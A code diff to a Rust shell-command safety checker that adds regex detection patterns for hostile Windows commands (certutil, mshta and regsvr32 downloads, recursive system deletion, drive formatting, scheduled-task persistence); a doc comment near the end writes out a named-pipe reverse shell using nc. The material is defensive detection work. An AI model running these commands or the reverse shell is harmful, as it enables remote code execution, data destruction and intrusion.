@@ -1,5 +1,5 @@
 //! What can only be seen in the text as a whole: fork bombs that no parser accepts, endless loops that start processes,
-//! pairs of commands that share a named pipe.
+//! pairs of commands that share a named pipe, and commands of Windows, whose words no Unix shell would take apart.
 
 use regex::Regex;
 use std::sync::LazyLock;
@@ -17,6 +17,71 @@ static BOMB: LazyLock<Option<Regex>> = LazyLock::new(|| {
 static REINCARNATION: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r"\$0\s*(?:\|\s*\$0\s*)?&\s*(?:\$0|exec\s+\$0)|\bwhile\s+(?:true|:)\s*;?\s*do\s+[^;\n]*&\s*done").ok()
 });
+
+/// Commands of Windows: a pattern in lower case, what it is, what is at stake.
+const WINDOWS: &[(&str, ShellKind, Level, &str)] = &[
+    (
+        r"\bcertutil\b.*-urlcache\b.*https?://",
+        ShellKind::DownloadRun,
+        Level::Blocked,
+        "downloads a program with `certutil`",
+    ),
+    (
+        r"\bmshta\b.*(?:https?:|javascript:|vbscript:)",
+        ShellKind::DownloadRun,
+        Level::Blocked,
+        "runs a script from the network with `mshta`",
+    ),
+    (
+        r"\bregsvr32\b.*/i:https?://|\brundll32\b.*javascript:|\bmsiexec\b.*/i\s+https?://",
+        ShellKind::DownloadRun,
+        Level::Blocked,
+        "runs a program from the network",
+    ),
+    (
+        r"\bbitsadmin\b.*/transfer\b",
+        ShellKind::DownloadRun,
+        Level::High,
+        "downloads a file with `bitsadmin`",
+    ),
+    (
+        r"\b(?:rd|rmdir)\b.*/s\b.*(?:c:\\?(?:\s|$|users|windows)|%userprofile%|%systemroot%)",
+        ShellKind::Delete,
+        Level::Blocked,
+        "deletes the folder of the users or of the system",
+    ),
+    (
+        r"\bdel\b.*/s\b.*(?:c:\\?(?:\s|$|\*|users|windows)|%userprofile%|%systemroot%)",
+        ShellKind::Delete,
+        Level::Blocked,
+        "deletes the files of the users or of the system",
+    ),
+    (
+        r"\bformat\s+[a-z]:",
+        ShellKind::Disk,
+        Level::Blocked,
+        "formats a drive",
+    ),
+    (
+        r"\bschtasks\b.*/create\b|\breg\s+add\b.*\\run\b",
+        ShellKind::Persistence,
+        Level::High,
+        "arranges to be run again",
+    ),
+];
+
+static WINDOWS_PATTERNS: LazyLock<Option<regex::RegexSet>> =
+    LazyLock::new(|| regex::RegexSet::new(WINDOWS.iter().map(|(pattern, ..)| pattern)).ok());
+
+fn windows(judge: &mut Judge, text: &str, whole: &Command) {
+    let Some(patterns) = WINDOWS_PATTERNS.as_ref() else {
+        return;
+    };
+    for hit in patterns.matches(&text.to_ascii_lowercase()) {
+        let (_, kind, level, message) = WINDOWS[hit];
+        judge.report(kind, level, message.to_owned(), whole);
+    }
+}
 
 /// Judges the text.
 pub(super) fn text(judge: &mut Judge, text: &str) {
@@ -43,6 +108,7 @@ pub(super) fn text(judge: &mut Judge, text: &str) {
         judge.report(ShellKind::Exhaustion, Level::Blocked, message, &whole);
     }
     shared_pipe(judge, text, &whole);
+    windows(judge, text, &whole);
 }
 
 /// `mkfifo p; cat p | sh | nc host 1 > p` in any order.
